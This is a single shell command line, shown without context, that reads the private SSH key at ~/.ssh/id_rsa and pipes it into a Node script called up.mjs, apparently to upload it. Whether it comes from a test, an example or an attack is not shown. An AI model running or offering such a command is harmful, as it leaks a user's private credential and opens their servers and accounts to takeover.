cat ~/.ssh/id_rsa | node up.mjs
